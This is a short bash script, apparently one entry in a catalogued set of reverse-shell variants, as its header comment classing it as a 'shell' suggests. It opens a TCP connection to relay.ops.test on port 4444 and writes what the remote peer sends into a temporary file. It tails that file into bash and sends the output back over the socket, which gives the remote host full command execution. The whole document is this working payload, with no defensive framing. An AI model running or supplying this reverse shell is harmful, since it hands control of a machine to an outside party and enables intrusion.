# class: shell; possible: low medium; style: peer's lines grow a file, tail feeds the shell
w=$(mktemp -d)
: > "$w/in"
exec 3<>/dev/tcp/relay.ops.test/4444 || exit 1
cat <&3 >>"$w/in" &
feeder=$!
( tail -f -n +1 "$w/in" --pid=$feeder | bash 2>&1 ) >&3
wait
rm -rf "$w"
